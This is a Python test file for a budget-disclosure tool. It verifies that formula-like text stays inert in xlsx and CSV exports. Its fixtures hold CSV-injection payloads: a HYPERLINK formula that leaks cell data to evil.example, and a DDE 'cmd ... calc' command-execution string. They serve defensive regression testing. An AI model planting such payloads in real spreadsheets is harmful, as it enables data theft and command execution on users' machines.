"""Text from a disclosure that starts like a formula (=, +, -, @, a tab or CR before one) stays inert in
everything we write for spreadsheets: the xlsx (read back with openpyxl), ``dump``'s CSV, the Fiscal
Data Package and ``query --format csv`` (issue 14: such an entity became a live formula)."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from yusuan.document_json import to_json
from yusuan.store.db import Store
from yusuan.store.work import analyse_bytes

ENTITY = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
LABEL = "=1+2"
GOAL = "@SUM(1+1)*cmd|' /C calc'!A0"
NOTE = "\t=2+3"


@pytest.fixture
def hostile(seed_doc, tmp_path: Path) -> Path:
    """The seed as Document JSON with an entity, a 表5 row label, a 绩效目标 and a negative amount like that."""
    import copy

    document = copy.deepcopy(seed_doc)
    document.meta.entity = ENTITY
    table5 = next(t for t in document.tables if t.number == 5)
    table5.rows[3].label = LABEL
    table5.rows[4].values[0] = Decimal("-12.50")
    goals = next(t for t in document.tables if t.text_column is not None)
    next(r for r in goals.rows if r.text).text = GOAL
    table5.notes.append(NOTE)
    path = tmp_path / "hostile.json"
    path.write_text(to_json(document), encoding="utf-8")
    return path


def test_xlsx_cells_are_text_not_formulas(cli, hostile: Path, tmp_path: Path) -> None:
    code, _, err = cli("export", str(hostile), "-o", str(tmp_path / "out"), "--to", "xlsx")
    assert code == 0, err
    [written] = (tmp_path / "out").glob("*.xlsx")
    workbook = load_workbook(written)
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {LABEL, GOAL, NOTE} <= texts and any(t.startswith(ENTITY) for t in texts)
    code, out, _ = cli("parse", str(written))  # our reader still reads the text as printed
    assert code == 0 and json.loads(out)["meta"]["entity"] == ENTITY


def test_dump_fdp_and_query_csv_are_inert(cli, hostile: Path, tmp_path: Path) -> None:
    db = tmp_path / "s.duckdb"
    with Store(db) as store:
        store.put(analyse_bytes(hostile.read_bytes(), hostile.name).records)
    code, _, err = cli("dump", str(tmp_path / "dump"), "--db", str(db), "--to", "csv,fdp")
    assert code == 0, err
    [document] = list(csv.DictReader((tmp_path / "dump" / "documents.csv").open(encoding="utf-8")))
    assert document["entity"] == "'" + ENTITY
    cells = list(csv.DictReader((tmp_path / "dump" / "cells.csv").open(encoding="utf-8")))
    assert "'" + LABEL in {c["row_label"] for c in cells} and "'" + GOAL in {c["printed"] for c in cells}
    assert "-12.50" in {c["printed"] for c in cells}  # a negative figure is a number, not a formula
    facts = list(csv.DictReader((tmp_path / "dump" / "fiscal-data-package" / "cells.csv").open(encoding="utf-8")))
    assert {f["entity"] for f in facts} == {"'" + ENTITY} and "'" + LABEL in {f["row_label"] for f in facts}
    assert "-12.50" in {f["printed"] for f in facts}
    for name in ("documents.csv", "cells.csv", "fiscal-data-package/cells.csv"):
        for row in csv.reader((tmp_path / "dump" / name).open(encoding="utf-8")):
            assert all(not v or v[0] not in "=+@\t\r" for v in row), (name, row)

    code, out, _ = cli("query", "SELECT entity, -1.5 AS n FROM documents", "--db", str(db), "-f", "csv")
    assert code == 0 and list(csv.reader(io.StringIO(out))) == [["entity", "n"], ["'" + ENTITY, "-1.5"]]
